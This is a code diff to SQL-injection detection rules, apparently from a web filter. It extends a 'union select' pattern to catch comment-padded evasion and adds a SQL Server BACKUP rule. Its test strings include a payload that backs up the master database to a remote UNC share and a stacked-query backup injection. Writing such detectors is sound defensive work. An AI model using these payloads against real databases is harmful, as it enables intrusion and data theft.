@@ -197,13 +197,27 @@ const marks: Rule[] = [
   ),
   pattern(
     'sqli/union-alone',
-    /^[\W\d]{0,8}union[\s+]{1,8}(?:all[\s+]{1,8}|distinct[\s+]{1,8})?select[\W\d]{0,8}$/,
+    /^[\W\d]{0,8}union(?:[\s+]|\/\*\W{0,8}\*\/){1,8}(?:(?:all|distinct)(?:[\s+]|\/\*\W{0,8}\*\/){1,8})?select[\W\d]{0,8}$/,
     {
       score: 5,
       atStart: true,
       words: WORD.sqlVerb,
-      attacks: ['Union sElect', "' union all select "],
+      attacks: ['Union sElect', "' union all select ", '/**/union/**/select'],
       benign: ['union selection', 'select union'],
+    },
+  ),
+  // SQL Server writes the backup where it is told, on a host of the sender's too.
+  pattern(
+    'sqli/backup',
+    /\bbackup\s{1,4}(?:database|log)\s{1,4}[\w.[\]"']{1,64}\s{1,4}to\s{1,4}(?:disks?|tape|url)\s{0,2}=\s{0,2}n?['"]/,
+    {
+      score: 5,
+      quotable: true,
+      attacks: [
+        "BACKUP database master to disks='\\\\203.0.113.9\\a\\b.dat'",
+        "1;backup log x to disk = N'c:\\a'",
+      ],
+      benign: ['backup database to disk', 'Backup log of x to disk'],
     },
   ),
   pattern(
